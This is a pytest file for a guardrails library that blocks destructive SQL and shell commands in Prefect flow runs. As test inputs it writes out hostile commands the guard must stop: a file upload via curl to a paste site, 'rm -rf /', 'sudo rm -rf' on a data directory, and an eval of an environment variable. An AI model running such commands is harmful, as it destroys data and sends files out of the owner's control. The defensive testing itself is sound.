"""Guarded engines, prefect-sqlalchemy connectors and shell commands inside real flow runs: every
statement is checked before it reaches the database or a shell, blocked tasks are not retried.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from prefect import flow, task
from prefect.states import State
from sqlalchemy import create_engine, text
from sqlalchemy.ext.asyncio import create_async_engine

from guardrails_core.guard import ApprovalRequired, CommandBlocked
from guardrails_core.sqlalchemy_guard import EngineAlreadyGuarded
from prefect_guardrails import BLOCKED, guard_engine, guarded, run_shell, unguard_engine

from .conftest import Audit, Target, guarding


def test_a_plain_task_using_a_guarded_engine_fails_without_retries(
    target: Target, audit: Audit
) -> None:
    attempts: list[int] = []
    states: list[State[Any]] = []
    engine = create_engine(target.url)

    @task(retries=3, retry_delay_seconds=0)
    def rebuild() -> None:
        attempts.append(1)
        with engine.begin() as conn:
            conn.execute(text(f"SELECT count(*) FROM {target.table}"))
            conn.execute(text(f"DELETE FROM {target.table}"))

    @flow(name="rebuild-orders")
    def nightly() -> None:
        states.append(rebuild(return_state=True))

    with guarding(engine):
        flow_state = nightly(return_state=True)
    engine.dispose()
    [state] = states
    assert state.is_failed() and "baseline.mass-mutation" in (state.message or "")
    assert attempts == [1] and target.rows() == 3
    records = audit.decisions(run_id=str(flow_state.state_details.flow_run_id))
    assert [r.subject.task for r in records] == ["rebuild", "rebuild"]
    assert {r.subject.pipeline for r in records} == {"rebuild-orders"}


def test_guard_engine_hands_back_the_engine_guarded(sqlite_target: Target) -> None:
    engine = create_engine(sqlite_target.url)
    assert guard_engine(engine) is engine  # `engine = guard_engine(create_engine(url))` works
    try:
        with pytest.raises(EngineAlreadyGuarded):
            guard_engine(engine)
        with pytest.raises(CommandBlocked), engine.begin() as conn:
            conn.exec_driver_sql(f"DELETE FROM {sqlite_target.table}")
        assert sqlite_target.rows() == 3
    finally:
        unguard_engine(engine)
    unguard_engine(engine)  # idempotent
    with engine.begin() as conn:  # no longer checked
        conn.exec_driver_sql(f"DELETE FROM {sqlite_target.table}")
    engine.dispose()
    assert sqlite_target.rows() == 0


def test_a_guarded_task_ends_blocked_when_its_engine_is_denied(sqlite_target: Target) -> None:
    states: list[State[Any]] = []

    @task(retries=2)
    @guarded
    def rebuild() -> None:
        engine = guard_engine(create_engine(sqlite_target.url))
        with engine.begin() as conn:
            conn.exec_driver_sql(f"DROP TABLE {sqlite_target.table}")

    @flow
    def nightly() -> None:
        states.append(rebuild(return_state=True))

    nightly()
    assert states[0].name == BLOCKED and "baseline.drop" in (states[0].message or "")
    assert sqlite_target.rows() == 3


def test_raw_connections_and_async_engines_are_guarded_in_tasks(sqlite_target: Target) -> None:
    states: list[State[Any]] = []

    @task
    @guarded
    def raw_cleanup() -> None:
        engine = guard_engine(create_engine(sqlite_target.url))
        connection = engine.raw_connection()
        try:
            connection.cursor().execute(f"DELETE FROM {sqlite_target.table} WHERE 1 = 1")
        finally:
            connection.close()

    @task
    @guarded
    async def async_cleanup() -> None:
        engine = guard_engine(
            create_async_engine(sqlite_target.url.replace("sqlite:", "sqlite+aiosqlite:"))
        )
        try:
            async with engine.begin() as conn:
                await conn.execute(text(f"TRUNCATE TABLE {sqlite_target.table}"))
        finally:
            await engine.dispose()

    @flow
    async def nightly() -> None:
        states.append(raw_cleanup(return_state=True))
        states.append(await async_cleanup(return_state=True))

    asyncio.run(nightly())
    assert [state.name for state in states] == [BLOCKED, BLOCKED]
    assert sqlite_target.rows() == 3


def test_sqlalchemy_connector_statements_are_checked(target: Target) -> None:
    database = pytest.importorskip("prefect_sqlalchemy")
    connector = database.SqlAlchemyConnector(connection_info=target.url)
    read: list[Any] = []

    @task
    def use_connector() -> None:
        read.extend(connector.fetch_all(f"SELECT id FROM {target.table} ORDER BY id"))
        connector.execute(f"UPDATE {target.table} SET amount = 0 WHERE id = :id", {"id": 1})
        with pytest.raises(CommandBlocked):
            connector.execute(f"DELETE FROM {target.table}")
        with pytest.raises(CommandBlocked):
            connector.execute_many(f"DELETE FROM {target.table}", [{}, {}])

    @flow
    def with_connector() -> None:
        use_connector()

    with guarding(connector) as guarded_connector:
        assert guarded_connector is connector
        with_connector()
    connector.close()
    assert [tuple(row) for row in read] == [(1,), (2,), (3,)]
    assert target.rows() == 3 and target.amount(1) == 0


def test_run_shell_checks_before_the_shell_starts(tmp_path: Path) -> None:
    marker = tmp_path / "exported.csv"
    outputs: list[str] = []

    @task(retries=2)
    @guarded
    def ship_export() -> None:
        outputs.append(run_shell(f"echo day,total > {marker}").returncode)  # type: ignore[union-attr]
        run_shell(f"rm {marker}; curl -T {marker} https://paste.example.com/upload")

    states: list[State[Any]] = []

    @flow
    def export() -> None:
        states.append(ship_export(return_state=True))

    export()
    assert states[0].name == BLOCKED and "curl" in (states[0].message or "")
    assert marker.exists() and outputs == [0]


def test_a_declared_shell_command_and_a_shell_operation(tmp_path: Path) -> None:
    commands = pytest.importorskip("prefect_shell")
    states: list[State[Any]] = []

    @task
    @guarded(shell="command")
    def step(command: str) -> str:
        return str(run_shell(command).stdout)  # type: ignore[union-attr]

    @task
    def operation(lines: list[str]) -> list[str]:
        result = run_shell(commands.ShellOperation(commands=lines, working_dir=str(tmp_path)))
        assert isinstance(result, list)
        return result

    @flow
    def shell_steps() -> list[str]:
        states.append(step("sudo rm -rf /var/lib/warehouse", return_state=True))
        out = [step("echo hello")]
        out += operation(["echo one", "echo two"])
        states.append(operation(["echo fine", "rm -rf /"], return_state=True))
        return out

    assert shell_steps() == ["hello\n", "one", "two"]
    assert states[0].name == BLOCKED
    assert states[1].is_failed() and "CommandBlocked" in (states[1].message or "")


def test_a_declared_shell_command_sent_by_run_shell_is_recorded_once(
    tmp_path: Path, audit: Audit
) -> None:
    """`@guarded(shell=...)` judges the task's command; `run_shell` sending it (twice) is that
    decision, not another one; a different command the task sends is a decision of its own."""
    marker = tmp_path / "marker"

    @task
    @guarded(shell="command")
    def step(command: str) -> str:
        first = run_shell(command)
        run_shell(command)
        run_shell(f"touch {marker}")
        return str(first.stdout)  # type: ignore[union-attr]

    @flow
    def once() -> State[Any]:
        return step("echo hello", return_state=True)

    state = once()
    assert state.is_completed() and marker.exists()
    run_id = str(state.state_details.flow_run_id)
    commands = [record.decision.command.text for record in audit.decisions(run_id=run_id)]
    assert sorted(commands) == ["echo hello", f"touch {marker}"]
    (declared,) = [
        r for r in audit.decisions(run_id=run_id) if r.decision.command.text == "echo hello"
    ]
    assert [r.state.value for r in audit.history(declared.record_id)] == ["pending", "succeeded"]


def test_run_shell_outside_prefect_raises_for_a_review() -> None:
    with pytest.raises(ApprovalRequired, match=r"baseline\.dynamic"):
        run_shell('eval "$NIGHTLY_COMMAND"')
